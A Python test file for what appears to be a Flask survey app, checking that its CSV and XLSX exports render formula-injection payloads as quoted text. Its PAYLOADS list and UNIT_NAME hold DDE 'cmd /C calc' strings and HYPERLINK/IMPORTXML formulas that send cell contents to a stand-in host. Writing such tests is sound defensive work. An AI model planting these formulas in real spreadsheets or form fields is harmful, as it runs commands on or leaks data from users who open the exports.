"""No export runs a formula (issue 11, finding 3): citizens' comments and imported unit names stay text.

The payloads are OWASP's CSV-injection examples (https://owasp.org/www-community/attacks/CSV_Injection) and the
ones from the issue. They reach the exports the way an attacker would put them there: typed as a comment on the QR
page, and written into the unit list a province administrator imports from CSV.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from analysis.report import Report, write_report
from analysis.spreadsheet import spreadsheet_safe
from tests.admin.conftest import World, admin_client, world  # noqa: F401  (fixtures)
from tests.admin.test_units import HEADER, upload
from tests.survey.conftest import fill
from tests.survey.test_shipped import SHIPPED, full_answers

PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
)
UNIT_NAME = '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")'
DISTRICT = "@SUM(1+1)*cmd|' /C calc'!A0"
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def assert_text_only(cells: list[Any], where: str) -> None:
    """No text cell can start a formula; plain numbers such as ``-3`` are fine."""
    for value in cells:
        if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert _NUMBER.fullmatch(value), f"{where}: {value!r} would run as a formula"


def xlsx_cells(content: bytes, where: str) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}, {sheet.title}!{cell.coordinate}: formula {cell.value!r}"
                cells.append(cell.value)
    return cells


def csv_cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for value in row]


@pytest.fixture
def poisoned(app: Flask, admin_client: FlaskClient, world: World) -> World:  # noqa: F811
    """Unit A renamed by a CSV import; one QR answer per payload, each with the payload as its comment."""
    line = f'MC-TEST,"{UNIT_NAME.replace(chr(34), chr(34) * 2)}",one_stop,commune,"{DISTRICT}",vi,1500\n'
    imported = upload(admin_client, HEADER + line, campaign=str(world.campaign))
    assert imported.status_code == 302, re.findall(r"<li>(.*?)</li>", imported.get_data(as_text=True))
    sent, _ = full_answers(SHIPPED["one_stop"])
    texts = ["q_" + item.id for item in SHIPPED["one_stop"].items if item.type == "text"]
    for payload in PAYLOADS:
        answers = {**sent, **dict.fromkeys(texts, payload)}
        assert fill(admin_client, f"/s/{world.token_a}", answers).status_code == 303, payload
    return world


def test_web_exports_hold_the_payloads_as_text(admin_client: FlaskClient, poisoned: World) -> None:  # noqa: F811
    campaign = poisoned.campaign
    pages = [admin_client.get(f"/reports/{campaign}/?lang=en").get_data(as_text=True),
             admin_client.get(f"/reports/{campaign}/units/{poisoned.unit_a}?lang=en").get_data(as_text=True)]
    links = {link for page in pages for link in re.findall(r'href="(/reports/[^"]+\.(?:csv|xlsx))"', page)}
    links |= {f"/reports/{campaign}/responses.csv", f"/reports/{campaign}/responses.xlsx",
              f"/reports/{campaign}/report.xlsx", f"/reports/{campaign}/units/{poisoned.unit_a}/report.xlsx"}
    seen: list[Any] = []
    for link in sorted(links):
        response = admin_client.get(link.replace("&amp;", "&"))
        assert response.status_code == 200, link
        is_xlsx = link.endswith(".xlsx")
        cells = xlsx_cells(response.data, link) if is_xlsx else csv_cells(response.get_data(as_text=True))
        assert_text_only(cells, link)
        seen += cells
    assert "'" + UNIT_NAME in seen and "'" + DISTRICT in seen  # kept, readable, and shown as text
    assert {"'" + p.strip() for p in PAYLOADS} <= set(seen)  # the form trims leading tab and CR


def test_the_command_line_export_holds_the_payloads_as_text(runner: FlaskCliRunner, poisoned: World,
                                                            tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    result = runner.invoke(args=["responses", "export", "--campaign", str(poisoned.campaign), "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = csv_cells(out.read_text(encoding="utf-8-sig"))
    assert_text_only(cells, "flask responses export")
    assert {"'" + p.strip() for p in PAYLOADS} <= set(cells) and "'" + UNIT_NAME in cells


def test_the_analysis_library_writes_text_cells(tmp_path: Path) -> None:
    table = pd.DataFrame({"unit_name": [UNIT_NAME, *PAYLOADS], "district": pd.Categorical([DISTRICT] * 10),
                          "rate": [-0.5] * 10, "note": ["-3", "+1.5e3", *(["ok"] * 8)]})
    written = write_report(Report(tables={"units": table}, figures={}), tmp_path, formats=())
    assert {p.name for p in written} == {"units.csv", "report.xlsx"}
    csv_text = (tmp_path / "units.csv").read_text(encoding="utf-8-sig")
    assert_text_only(csv_cells(csv_text), "units.csv")
    book = xlsx_cells((tmp_path / "report.xlsx").read_bytes(), "report.xlsx")
    assert_text_only(book, "report.xlsx")
    assert -0.5 in book and "-3" in book and "+1.5e3" in book  # numbers stay numbers


def test_only_formula_starts_are_quoted() -> None:
    frame = pd.DataFrame({"text": pd.Series(["=1", "a=1", " =1", "-", "-3", "", None, "ok\r=1+1"], dtype=object)})
    assert spreadsheet_safe(frame)["text"].tolist() == ["'=1", "a=1", " =1", "'-", "-3", "", None, "ok\n=1+1"]
    # a bare carriage return would start a new CSV row (and a cell "=1+1") in a spreadsheet program
    assert '"ok\n=1+1"' in spreadsheet_safe(frame).to_csv(index=False)
